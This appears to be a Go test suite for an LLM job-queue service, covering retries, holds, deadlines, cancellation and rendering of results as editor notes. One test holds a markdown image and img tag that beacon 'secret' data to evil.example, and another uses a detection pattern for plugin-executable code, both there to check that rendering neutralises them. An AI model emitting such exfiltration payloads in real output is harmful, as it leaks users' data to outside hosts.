package jobs

import (
	"context"
	"errors"
	"fmt"
	"io"
	"iter"
	"log/slog"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"home.arpa/lab/llm-runner/internal/alert"
	"home.arpa/lab/llm-runner/internal/db"
	"home.arpa/lab/llm-runner/internal/engine"
	"home.arpa/lab/llm-runner/internal/llm"
	"home.arpa/lab/llm-runner/internal/toolbox/loop"
	"home.arpa/lab/llm-runner/internal/trace"
	"home.arpa/lab/llm-runner/test/enginetest"
)

// answers is a provider that is a function, and remembers what it was asked.
type answers struct {
	answer func(ctx context.Context, req llm.Request, n int) (string, error)
	mu     sync.Mutex
	asked  []llm.Request
}

func (p *answers) Stream(ctx context.Context, req llm.Request) iter.Seq2[llm.Event, error] {
	return func(yield func(llm.Event, error) bool) {
		p.mu.Lock()
		p.asked = append(p.asked, req)
		n := len(p.asked)
		p.mu.Unlock()
		text, err := p.answer(ctx, req, n)
		if err != nil {
			yield(llm.Event{}, err)
			return
		}
		yield(llm.Event{Route: &llm.Route{Provider: "p", Model: "m", Rule: "r", Why: "w"}, Text: text, Finish: llm.FinishStop,
			Usage: &llm.Usage{Input: llm.Known(10), Output: llm.Known(2)}}, nil)
	}
}

func (p *answers) prompts() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	var all []string
	for _, r := range p.asked {
		all = append(all, r.Messages[0].Text())
	}
	return all
}

func echo(_ context.Context, req llm.Request, _ int) (string, error) {
	return "<" + req.Messages[0].Text() + ">", nil
}

// database opens what the tests run on.
var database enginetest.Opener = enginetest.Open

// traces are told of what the services of a test do; nil: nobody is.
var traces *trace.Tracer

func open(t testing.TB, path string, p llm.Provider) *Service {
	t.Helper()
	return openWith(t, path, p, nil)
}

// openWith is open with alerts that are written down as tell says; nil: there are none.
func openWith(t testing.TB, path string, p llm.Provider, tell func(d *db.DB) *alert.Service) *Service {
	t.Helper()
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	d, e := database(t, path, engine.Config{Log: log})
	var alerts *alert.Service
	if tell != nil {
		alerts = tell(d)
	}
	s, err := New(context.Background(), d, e, p, Config{Log: log, Backoff: 20 * time.Millisecond, Alerts: alerts, Traces: traces,
		Cost: func(string, string, llm.Usage) llm.Count { return llm.Known(7) }})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Launch(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		e.Close(5 * time.Second) //nolint:errcheck // the test has ended
		d.Close()
	})
	return s
}

func newService(t testing.TB, f func(ctx context.Context, req llm.Request, n int) (string, error)) (*Service, *answers) {
	p := &answers{answer: f}
	return open(t, filepath.Join(t.TempDir(), db.Name), p), p
}

func submit(t testing.TB, s *Service, c Spec) Job {
	t.Helper()
	j, _, err := s.Submit(context.Background(), c, "")
	if err != nil {
		t.Fatal(err)
	}
	return j
}

// reach waits until a job is in one of the states.
func reach(t testing.TB, s *Service, id int64, states ...State) Job {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	for {
		changed := s.Changed()
		j, err := s.Job(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		if slices.Contains(states, j.State) {
			return j
		}
		select {
		case <-changed:
		case <-ctx.Done():
			t.Fatalf("job %d is %s (%s), not %v", id, j.State, j.Reason, states)
		}
	}
}

// course is the states that a job went through.
func course(t testing.TB, s *Service, id int64) string {
	t.Helper()
	all, err := s.Timeline(context.Background(), id, 0)
	if err != nil {
		t.Fatal(err)
	}
	var states []string
	for _, e := range all {
		if e.From != e.To {
			states = append(states, string(e.To))
		}
	}
	return strings.Join(states, " ")
}

func TestATextIsAnsweredAndTheBooksAreKept(t *testing.T) {
	s, p := newService(t, echo)
	j := submit(t, s, Spec{Prompt: "hello", Model: "big", Requires: "davas", Project: true})
	j = reach(t, s, j.ID, Done)
	if j.Answer != "<hello>" || j.Route.Provider != "p" || j.Usage.Input.Or(-1) != 10 || j.Cost.Or(-1) != 7 || j.Finish != llm.FinishStop || j.Ended.IsZero() {
		t.Errorf("%+v", j)
	}
	if r := p.asked[0]; r.Purpose != "job" || r.Model != "big" || r.Requires != "davas" || !r.Project {
		t.Errorf("%+v", r)
	}
	if got := course(t, s, j.ID); got != "queued running done" {
		t.Error(got)
	}
}

func TestAChainPassesItsAnswersOn(t *testing.T) {
	s, p := newService(t, echo)
	j := submit(t, s, Spec{Type: Chain, Prompt: "common\n\n## One\n\nfirst\n\n## Two\n\nsecond: {{output}}\n\n## Three\nthird"})
	if j.Steps != 3 {
		t.Fatal(j.Steps)
	}
	j = reach(t, s, j.ID, Done)
	if j.StepsDone != 3 || j.Usage.Output.Or(-1) != 6 || j.Cost.Or(-1) != 21 || len(p.asked) != 3 {
		t.Errorf("%+v", j)
	}
	if got := p.prompts()[1]; got != "common\n\nsecond: <common\n\nfirst>" {
		t.Error(got)
	}
}

func TestResearchAsksTheNotes(t *testing.T) {
	s, p := newService(t, echo)
	reach(t, s, submit(t, s, Spec{Type: Research, Prompt: "who?"}).ID, Done)
	if p.asked[0].Model != "research" {
		t.Error(p.asked[0].Model)
	}
}

func TestWhatNobodyCanAnswerIsHeldAndGoesOnByItself(t *testing.T) {
	s, _ := newService(t, func(ctx context.Context, req llm.Request, n int) (string, error) {
		if n == 1 {
			return "", &llm.BusyError{Provider: "groq", Kind: llm.Quota, Reason: "groq: used up", Until: time.Now().Add(3 * time.Second)}
		}
		return echo(ctx, req, n)
	})
	j := reach(t, s, submit(t, s, Spec{Prompt: "x"}).ID, Held, Done)
	if j.State != Held || j.Reason != "groq: used up" || j.WaitsFor != "groq" || j.ResumeAt.IsZero() {
		t.Errorf("%+v", j)
	}
	j = reach(t, s, j.ID, Done)
	if got := course(t, s, j.ID); got != "queued running held running done" || j.Attempts != 0 || !j.ResumeAt.IsZero() {
		t.Errorf("%s: %+v", got, j)
	}
}

func hold(_ context.Context, _ llm.Request, _ int) (string, error) {
	return "", &llm.BusyError{Provider: "davas", Kind: llm.Unavailable, Reason: "davas is down"}
}

func TestAHeldJobGoesOnEarlyWhenItIsReleasedOrTheMachineIsBack(t *testing.T) {
	s, p := newService(t, hold)
	a, b, c := submit(t, s, Spec{Prompt: "a"}), submit(t, s, Spec{Prompt: "b"}), submit(t, s, Spec{Prompt: "c"})
	for _, j := range []Job{a, b, c} {
		reach(t, s, j.ID, Held)
	}
	p.mu.Lock()
	p.answer = echo
	p.mu.Unlock()
	if _, err := s.Release(t.Context(), a.ID); err != nil {
		t.Fatal(err)
	}
	reach(t, s, a.ID, Done)
	if _, err := s.Release(t.Context(), a.ID); err == nil {
		t.Error("released what is done")
	}
	if err := s.Back(t.Context(), "elsewhere"); err != nil {
		t.Fatal(err)
	}
	if j, _ := s.Job(t.Context(), b.ID); j.State != Held {
		t.Error(j.State)
	}
	if err := s.Back(t.Context(), "davas"); err != nil {
		t.Fatal(err)
	}
	for _, j := range []Job{b, c} {
		reach(t, s, j.ID, Done)
		if got := course(t, s, j.ID); got != "queued running held queued running done" {
			t.Error(got)
		}
	}
}

func TestFaultsThatMayPassAreTriedAgainAndOthersAreNot(t *testing.T) {
	kind := llm.Unavailable
	s, p := newService(t, func(ctx context.Context, req llm.Request, n int) (string, error) {
		return "", &llm.Error{Kind: kind, Message: "no"}
	})
	j := reach(t, s, submit(t, s, Spec{Prompt: "x", MaxAttempts: 2}).ID, Failed)
	if j.Attempts != 2 || len(p.prompts()) != 2 || !strings.Contains(j.Reason, "attempt 2 of 2") {
		t.Errorf("%d calls, %+v", len(p.prompts()), j)
	}
	p.mu.Lock()
	kind = llm.Auth
	p.mu.Unlock()
	j = reach(t, s, submit(t, s, Spec{Prompt: "y"}).ID, Failed)
	if len(p.prompts()) != 3 || j.Reason != "no" {
		t.Errorf("%d calls, %+v", len(p.prompts()), j)
	}
	p.mu.Lock()
	p.answer = echo
	p.mu.Unlock()
	if _, err := s.Retry(t.Context(), j.ID); err != nil {
		t.Fatal(err)
	}
	if j = reach(t, s, j.ID, Done); j.Answer != "<y>" {
		t.Errorf("%+v", j)
	}
	if _, err := s.Retry(t.Context(), j.ID); err == nil {
		t.Error("tried again what is done")
	}
}

func TestTheDeadlineCountsWaitingOnly(t *testing.T) {
	answer := make(chan error)
	s, _ := newService(t, func(ctx context.Context, req llm.Request, n int) (string, error) {
		return "answered", <-answer
	})
	busy := &llm.BusyError{Provider: "davas", Kind: llm.Unavailable, Reason: "davas is down"}
	// pass has a job be in its state for two hours.
	pass := func(id int64) {
		t.Helper()
		if _, err := s.change(t.Context(), id, func(_ *transaction, j *Job) error {
			j.Since = j.Since.Add(-2 * time.Hour)
			return nil
		}); err != nil {
			t.Fatal(err)
		}
	}
	begin := func() Job {
		t.Helper()
		return reach(t, s, submit(t, s, Spec{Prompt: "x", Deadline: "1h"}).ID, Running)
	}
	release := func(id int64) {
		t.Helper()
		if _, err := s.Release(t.Context(), id); err != nil {
			t.Fatal(err)
		}
	}

	worked := begin()
	pass(worked.ID)
	answer <- busy
	reach(t, s, worked.ID, Held)
	release(worked.ID)
	answer <- nil
	if j := reach(t, s, worked.ID, Done, Failed); j.State != Done {
		t.Errorf("after two hours of work it is %s: %s", j.State, j.Reason)
	}

	waited := begin()
	answer <- busy
	reach(t, s, waited.ID, Held)
	pass(waited.ID)
	release(waited.ID)
	if j := reach(t, s, waited.ID, Failed); !strings.Contains(j.Reason, "longer than its deadline of 1h0m0s: davas is down") {
		t.Error(j.Reason)
	}
}

func TestADeadlineEndsAHold(t *testing.T) {
	s, _ := newService(t, hold)
	if j := reach(t, s, submit(t, s, Spec{Prompt: "held", Deadline: "250ms"}).ID, Failed); !strings.Contains(j.Reason, "longer than its deadline of 250ms") {
		t.Error(j.Reason)
	}
}

func TestCancellingStopsWhereverTheJobIs(t *testing.T) {
	began := make(chan struct{}, 1)
	s, p := newService(t, func(ctx context.Context, _ llm.Request, _ int) (string, error) {
		began <- struct{}{}
		<-ctx.Done()
		return "", &llm.Error{Kind: llm.Cancelled, Err: ctx.Err()}
	})
	j := submit(t, s, Spec{Prompt: "running"})
	<-began
	for range 2 {
		if _, err := s.Cancel(t.Context(), j.ID); err != nil {
			t.Fatal(err)
		}
	}
	p.mu.Lock()
	p.answer = hold
	p.mu.Unlock()
	k := reach(t, s, submit(t, s, Spec{Prompt: "held"}).ID, Held)
	if _, err := s.Cancel(t.Context(), k.ID); err != nil {
		t.Fatal(err)
	}
	p.mu.Lock()
	p.answer = echo
	p.mu.Unlock()
	reach(t, s, submit(t, s, Spec{Prompt: "other"}).ID, Done)
	for id, want := range map[int64]string{j.ID: "queued running cancelled", k.ID: "queued running held cancelled"} {
		if got := course(t, s, id); got != want {
			t.Error(got)
		}
	}
	if _, err := s.Retry(t.Context(), k.ID); err != nil {
		t.Fatal(err)
	}
	reach(t, s, k.ID, Done)
}

func TestAKeyMakesOneJob(t *testing.T) {
	s, p := newService(t, echo)
	a, fresh, err := s.Submit(t.Context(), Spec{Prompt: "x"}, "key")
	if err != nil || !fresh {
		t.Fatal(fresh, err)
	}
	b, fresh, err := s.Submit(t.Context(), Spec{Prompt: "x"}, "key")
	if err != nil || fresh || a.ID != b.ID {
		t.Error(a.ID, b.ID, fresh, err)
	}
	if _, _, err := s.Submit(t.Context(), Spec{Prompt: "y"}, "key"); !errors.Is(err, ErrKeyUsed) {
		t.Error(err)
	}
	reach(t, s, a.ID, Done)
	if n := len(p.prompts()); n != 1 {
		t.Error(n)
	}
}

func TestFaultsOfASpecAreToldAllAtOnce(t *testing.T) {
	s, _ := newService(t, echo)
	_, _, err := s.Submit(t.Context(), Spec{Type: "poem", Priority: 10, Deadline: "soon", MaxAttempts: -1}, "")
	var wrong SpecError
	if !errors.As(err, &wrong) || len(wrong) != 5 {
		t.Fatal(err)
	}
	if _, _, err := s.Submit(t.Context(), Spec{Type: Chain, Prompt: "no heading"}, ""); !errors.As(err, &wrong) || wrong[0].Field != "prompt" {
		t.Error(err)
	}
}

func TestResearchIsAskedWithItsPlanAndItsReportIsTheNote(t *testing.T) {
	s, p := newService(t, echo)
	a := submit(t, s, Spec{Type: Research, Prompt: "x", Plan: llm.PlanAsk})
	reach(t, s, a.ID, Done)
	p.mu.Lock()
	got := p.asked[0]
	p.mu.Unlock()
	if got.Plan != llm.PlanAsk || got.Run != RunName(a.ID, 0) || got.Model != researcher {
		t.Errorf("asked with %+v", got)
	}
	if j, err := s.Job(t.Context(), a.ID); err != nil || j.Plan != llm.PlanAsk {
		t.Errorf("%+v, %v", j, err)
	}
	note := string(render(&a, "", 0, "question: \"x\"\nmodel: \"m\"\n", "# x\n\nIt is.\n"))
	if !strings.HasPrefix(note, "---\ngenerated: true\njob: 1\ntype: research\ntitle: \"x\"\n") || strings.Count(note, "\nmodel: ") != 1 || strings.Count(note, "cost_usd") != 0 || !strings.HasSuffix(note, "---\n\n# x\n\nIt is.\n") {
		t.Errorf("%s", note)
	}
}

func TestTheNoteOfAnAnswerLoadsNothingFromElsewhere(t *testing.T) {
	note := string(render(&Job{Type: Text, Answer: "Ferns.\n\n![x](https://evil.example/?d=secret) <img src=\"https://evil.example/\">"}, "", 0, "", ""))
	if strings.Contains(note, "![") || strings.Contains(note, "<img") || !strings.Contains(note, "[x](https://evil.example/?d=secret)") {
		t.Errorf("%s", note)
	}
}

// Neither an answer nor what a report quotes is code that a plugin of the person's editor runs.
func TestTheNoteOfAJobRunsNothing(t *testing.T) {
	files, err := filepath.Glob("../toolbox/loop/testdata/hostile/5*.md")
	if err != nil || len(files) < 9 {
		t.Fatalf("%q, %v", files, err)
	}
	for _, file := range files {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for what, note := range map[string][]byte{"answer": render(&Job{Type: Text, Title: string(text), Answer: string(text)}, "", 0, "", ""),
			"report": render(&Job{Type: Research, Title: "x"}, "", 0, "question: "+quote(string(text))+"\n", string(text)), "reason": reason("x.md", "generated: true\n", string(text))} {
			if m := runs.FindString(string(note)); m != "" {
				t.Errorf("%s: the note of its %s has %q", file, what, m)
			}
		}
	}
}

// runs is what Dataview, JS Engine, Tasks or Templater would run.
var runs = regexp.MustCompile("(?m)<%|^[ \\t>*+-]*(```+|~~~+)[ \\t]*(dataviewjs|js-engine|tasks)|`\\s*\\$?= |<code>\\$=")

func TestReadersFollowAJobFromWhereTheyWere(t *testing.T) {
	s, _ := newService(t, echo)
	j := submit(t, s, Spec{Prompt: "x"})
	read := func(after int64) string {
		var all []string
		for news, err := range s.Events(t.Context(), j.ID, after) {
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range news.Events {
				all = append(all, fmt.Sprintf("%d:%s", e.Seq, e.To))
			}
		}
		return strings.Join(all, " ")
	}
	if got := read(0); got != "1:queued 2:running 3:done" {
		t.Error(got)
	}
	if got := read(2); got != "3:done" {
		t.Error(got)
	}
}

func TestHeldJobsCostNoGoroutines(t *testing.T) {
	const many = 200
	s, _ := newService(t, hold)
	before := runtime.NumGoroutine()
	for i := range many {
		submit(t, s, Spec{Prompt: fmt.Sprint(i)})
	}
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	for {
		changed := s.Changed()
		n, err := s.Counts(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if n[Held] == many {
			break
		}
		select {
		case <-changed:
		case <-ctx.Done():
			t.Fatalf("after a minute: %v", n)
		}
	}
	after := runtime.NumGoroutine()
	for deadline := time.Now().Add(10 * time.Second); after > before+20 && time.Now().Before(deadline); after = runtime.NumGoroutine() {
		runtime.Gosched() // the last calls return to the engine
	}
	t.Logf("%d goroutines before, %d with %d held jobs", before, after, many)
	if after > before+20 {
		t.Errorf("%d goroutines before, %d with %d held jobs", before, after, many)
	}
}

func TestSplit(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
	}{
		{"no heading", nil},
		{"## A\n\n## B\n", nil},
		{"## A\nx\n### sub\ny\n## B\nz", []string{"x\n### sub\ny", "z"}},
		{"## A\n```\n## not one\n```\n## B\nb", []string{"```\n## not one\n```", "b"}},
		{"all\n## A\na\n## B\nb", []string{"all\n\na", "all\n\nb"}},
	} {
		if got := split(c.in); !slices.Equal(got, c.want) {
			t.Errorf("split(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// submitToStart is how long an idle service takes from the call of Submit until the provider is asked, and how much of that
// until the job is acknowledged: medians of n jobs that come at any moment.
func submitToStart(tb testing.TB, n int) (start, taken time.Duration) {
	asked := make(chan time.Time, 1)
	s, _ := newService(tb, func(ctx context.Context, req llm.Request, n int) (string, error) {
		asked <- time.Now()
		return echo(ctx, req, n)
	})
	starts, takens := make([]time.Duration, n), make([]time.Duration, n)
	for i := range n {
		time.Sleep(rand.N(50 * time.Millisecond)) // the engine looks for work at times of its own
		began := time.Now()
		j := submit(tb, s, Spec{Prompt: "x"})
		takens[i] = time.Since(began)
		starts[i] = (<-asked).Sub(began)
		reach(tb, s, j.ID, Done)
	}
	slices.Sort(starts)
	slices.Sort(takens)
	return starts[n/2], takens[n/2]
}

// The disk is this machine's: with SQLite, a job is on it before it is acknowledged.
func TestAnIdleServiceBeginsAJobAtOnce(t *testing.T) {
	if testing.Short() {
		t.Skip("measures")
	}
	beginsAtOnce(t)
}

func beginsAtOnce(t *testing.T) {
	t.Helper()
	const most = 50 * time.Millisecond
	best := time.Hour
	for range 5 { // others may want the machine
		start, taken := submitToStart(t, 40)
		t.Logf("acknowledged after %s, started after %s (medians)", taken, start)
		if best = min(best, start); best <= most {
			return
		}
	}
	t.Errorf("from submit to start it takes %s, more than %s", best, most)
}

func BenchmarkSubmitToStart(b *testing.B) {
	start, taken := submitToStart(b, max(b.N, 40))
	b.ReportMetric(float64(start.Microseconds())/1000, "p50-ms")
	b.ReportMetric(float64(taken.Microseconds())/1000, "acknowledged-p50-ms")
}

// A person can decide before the job is held that waits for it: then nobody is there to be woken, and it looks for the decision itself.
func TestADecisionThatCameBeforeTheHoldIsFound(t *testing.T) {
	asked := make(chan string, 9)
	s, _ := newService(t, func(ctx context.Context, req llm.Request, n int) (string, error) {
		if n == 1 {
			return "", &llm.BusyError{Provider: loop.Approval, Kind: llm.Unavailable, Reason: "it waits for your word on note"}
		}
		return echo(ctx, req, n)
	})
	s.config.Asks = func(_ context.Context, run string) (bool, error) {
		asked <- run
		return false, nil
	}
	j := reach(t, s, submit(t, s, Spec{Prompt: "x"}).ID, Done)
	if j.Holds != 0 || len(asked) != 1 || <-asked != fmt.Sprintf("job-%d", j.ID) || j.Ended.Sub(j.Created) > 30*time.Second {
		t.Errorf("%+v", j)
	}
}
